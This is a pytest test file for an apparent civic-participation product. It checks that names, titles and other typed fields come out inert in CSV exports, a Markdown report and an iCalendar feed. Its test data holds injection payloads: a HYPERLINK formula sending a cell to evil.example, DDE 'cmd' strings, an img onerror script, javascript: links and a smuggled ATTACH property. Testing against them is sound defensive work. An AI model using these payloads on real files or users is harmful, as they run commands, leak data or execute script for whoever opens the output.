"""No file the product writes runs what a person typed: CSV formulas, Markdown HTML, iCal lines.

Formulas are planted in every text field a member, a respondent, the secretariat or
the API can set on a Poitiers edition (names, addresses, e-mails, phones, public
names, titles, departments, the person responsible, summaries, reasons); every CSV
written from them is read back cell by cell. The follow-up report's Markdown must
show raw HTML and ``javascript:`` links as text, and the sessions feed must keep a
carriage return inside a title from starting a property of its own.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from kleroterion import spreadsheet
from kleroterion.services import (
    followup,
    mandates,
    members,
    privacy,
    proposals,
    recruitment,
    sessions,
    statement_export,
)
from kleroterion.web import calendar

D = dt.date
FORMULAS = ['=HYPERLINK("https://evil.example/?"&B2,"x")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HTML = '<img src=x onerror="alert(1)"> [clic](javascript:alert(1)) <javascript:alert(2)>'


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row]


def _assert_inert(text: str, delimiter: str = ",") -> None:
    for cell in _cells(text, delimiter):
        if cell.startswith(spreadsheet.FORMULA_STARTS):
            assert re.fullmatch(r"[+-]?\d+(?:[.,]\d+)?", cell), f"live formula: {cell!r}"


@given(st.text(max_size=30))
def test_neutralise_never_leaves_a_formula_and_keeps_other_text(text: str) -> None:
    written = spreadsheet.neutralise(text)
    assert isinstance(written, str)
    if text.startswith(spreadsheet.FORMULA_STARTS) and not re.fullmatch(
            r"[+-]?\d+(?:[.,]\d+)?", text):
        assert written == "'" + text
    else:
        assert written == text


def test_every_csv_writer_of_the_product_is_the_safe_one() -> None:
    root = Path(spreadsheet.__file__).parent
    raw = {str(path.relative_to(root)) for path in root.rglob("*.py")
           if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))}
    # The safe writer itself, and the engine's scratch copy it reads back itself.
    assert raw == {"spreadsheet.py", "sortition/grouped.py"}


def test_formulas_planted_everywhere_are_inert_in_every_export(run: Any,
                                                              tmp_path: Path) -> None:
    mandate = run(mandates.open_mandate, "poitiers", "édition 2025", D(2025, 1, 1))
    seated = []
    for index, formula in enumerate(FORMULAS):
        seated.append(run(recruitment.add_volunteer, mandate.id, D(2025, 2, 1),
                          external_id=f"vol-{index}", name=formula, address=formula,
                          email=formula, phone=formula[:40], family_quotient="700"))
    for member in seated[:3]:
        run(members.give_name_consent, member.id, FORMULAS[0], D(2025, 2, 2))
    run(members.withdraw, seated[-1].id, D(2025, 3, 1), FORMULAS[1])
    meeting = run(sessions.add_session, mandate.id, "assemblee", D(2025, 3, 5),
                  title=FORMULAS[2])
    for member in seated[:-1]:
        run(sessions.record_attendance, meeting.id, member.id, "present")
    plan = run(proposals.create, mandate.id, "plan-action", FORMULAS[3], D(2025, 9, 5))
    for target, on in (("decide", D(2025, 9, 5)), ("transmis", D(2025, 9, 20)),
                       ("referendum", D(2025, 11, 2)), ("adopte", D(2026, 2, 1))):
        run(proposals.move, plan.id, target, on, reason=FORMULAS[4])
    commitment = run(followup.add_commitment, plan.id, FORMULAS[0], FORMULAS[1],
                     D(2026, 2, 10), responsible=FORMULAS[2], due_on=D(2026, 12, 31))
    run(followup.add_milestone, commitment.id, FORMULAS[5], D(2026, 6, 1))

    exports = {
        "personal": run(privacy.export_personal, mandate.id, "right of access",
                        members_only=False),
        "personal-fr": run(privacy.export_personal, mandate.id, "right of access",
                           french=True),
        "indemnities": run(lambda session: statement_export.export(
            session, mandate.city, D(2025, 1, 1), D(2025, 12, 31), gettext=str, language="en",
            mandate_id=mandate.id, purpose="payment")[0].decode("utf-8-sig")),
        "report": run(followup.report, mandate.id, 2026, "csv"),
        "report-public": run(followup.report, mandate.id, 2026, "csv", public=True),
    }
    for key, text in exports.items():
        delimiter = ";" if key.endswith("-fr") else ","
        planted = [c for c in _cells(text, delimiter) if c.lstrip("'") in FORMULAS
                   or any(f in c for f in FORMULAS)]
        assert planted, f"{key}: the planted values were not exported"
        _assert_inert(text, delimiter)

    # The invitation letters copy the registry's rows, names and addresses included.
    registry = tmp_path / "adresses.csv"
    with registry.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["numero", "nom", "quartier"])
        for number in range(40):
            writer.writerow([number + 1, FORMULAS[number % 4], "Centre"])
    run(recruitment.record_invitation_draw, mandate.id, "adresses", registry,
        tmp_path / "visites.csv", seed=2, count=10)
    _assert_inert((tmp_path / "visites.csv").read_text(encoding="utf-8"))


def test_the_markdown_report_shows_html_and_links_as_text(run: Any) -> None:
    mandate = run(mandates.open_mandate, "poitiers", "édition 2025", D(2025, 1, 1))
    plan = run(proposals.create, mandate.id, "plan-action", HTML, D(2025, 9, 5))
    for target, on in (("decide", D(2025, 9, 5)), ("transmis", D(2025, 9, 20)),
                       ("referendum", D(2025, 11, 2)), ("adopte", D(2026, 2, 1))):
        run(proposals.move, plan.id, target, on)
    commitment = run(followup.add_commitment, plan.id, HTML, "Mobilités\n# Titre injecté",
                     D(2026, 2, 10))
    run(followup.add_milestone, commitment.id, "[x](javascript:alert(3))", D(2026, 6, 1))
    text = run(followup.report, mandate.id, 2026)
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").render(text)
    assert "<img" not in html and "<javascript" not in html
    assert "href" not in html  # no link at all was made of the planted text
    assert html.count("<h1>") == 1  # a line break in a field does not start a heading
    assert "&lt;img src=x" in html  # shown, as text


@pytest.mark.parametrize("title", ["Séance\rATTACH:https://evil.example/x",
                                   "Séance\nATTACH:x", "Séance\r\nATTACH:x",
                                   "Séance\u2028ATTACH:x", "Séance\x00\x1bATTACH:x"])
def test_a_line_break_in_a_title_never_starts_an_icalendar_property(title: str) -> None:
    feed = calendar.calendar("Assemblée", [calendar.Event("1@x", D(2025, 3, 5), title,
                                                          description=title)],
                             dt.datetime(2025, 1, 1, tzinfo=dt.UTC))
    lines = feed.split("\r\n")
    assert all("\r" not in line and "\n" not in line for line in lines)
    unfolded = [line for line in lines if not line.startswith(" ")]
    assert not any(line.startswith("ATTACH") for line in unfolded)
    assert "\x00" not in feed and "\x1b" not in feed
